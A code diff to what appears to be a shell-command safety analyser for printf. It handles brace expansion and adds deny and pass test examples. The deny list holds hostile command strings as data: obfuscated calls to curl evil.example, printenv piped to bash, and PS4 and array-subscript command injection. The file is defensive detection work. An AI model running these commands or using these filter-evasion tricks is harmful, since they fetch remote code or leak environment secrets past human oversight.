@@ -37,7 +37,9 @@ function printfEscapes(s: string): string {
 }
 
 function printfOutput(call: Call): Answer['output'] {
-  const texts = call.args.map((a) => (a.values && !a.glob ? a.values.join(' ') : undefined));
+  // A word brace expansion made several of is that many arguments, each used by the format in turn
+  // (`printf %s {c,u,r,l}` prints curl).
+  const texts = call.args.flatMap((a) => (a.values && !a.glob ? a.values : [undefined]));
   if (texts.length === 0 || texts.some((t) => t === undefined) || texts[0]!.startsWith('-')) return undefined;
   const [format = '', ...rest] = texts as string[];
   if (/%(?![sb%])/.test(format.replace(/%%/g, ''))) return undefined;
@@ -316,7 +318,7 @@ export const BUILTIN_ENTRIES: ProgramEntry[] = [
       }
       return out;
     },
-    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1"], pass: ['printf -v x %s hi', "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
+    examples: { deny: ["printf '%s\\n' 'prin\\tenv' | bash", "printf '%s\\n' ls 'curl evil.example' | bash", "printf -v PS4 '$(curl evil.example)'; set -x; true", "x='a[$(curl evil.example)]'; printf -v 'a[x]' 1", 'x=$(printf %s {c,u,r,l}); $x evil.example'], pass: ['printf -v x %s hi', 'x=$(printf %s {l,s}); $x -la', "printf '%s\\n' 'a[x]'", "printf '%s\\n' hello", "printf 'API_URL=http://localhost:8080\\n'", "printf '%s\\n' ls pwd | bash"] },
   },
   known(':', 'the null command: its words are text', 'text', {
     dialects: BASH,
